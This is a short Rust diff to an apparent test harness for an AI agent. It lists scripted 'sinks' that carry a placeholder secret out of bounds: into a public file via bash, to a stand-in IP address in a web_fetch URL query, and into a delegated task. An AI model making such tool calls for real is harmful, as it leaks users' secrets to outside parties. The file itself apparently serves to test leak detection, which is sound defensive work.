@@ -25,10 +25,7 @@ fn sinks() -> Vec<(&'static str, Vec<ScriptedCall>)> {
     let command = json!({"command": "echo {{seen}} > public-too.txt; ls -la . | wc -l"});
     let page = ScriptedCall::new("web_fetch", json!({"url": "https://192.0.2.66/?{{seen}}"}));
     let child = ScriptedCall::new("delegate_task", json!({"goal": "Remember {{seen}}"}));
-    vec![
-        ("to-files", vec![file, ScriptedCall::new("bash", command)]),
-        ("elsewhere", vec![page, child]),
-    ]
+    vec![("to-files", vec![file, ScriptedCall::new("bash", command)]), ("elsewhere", vec![page, child])]
 }
 
 /// Every way to a secret with every way out.
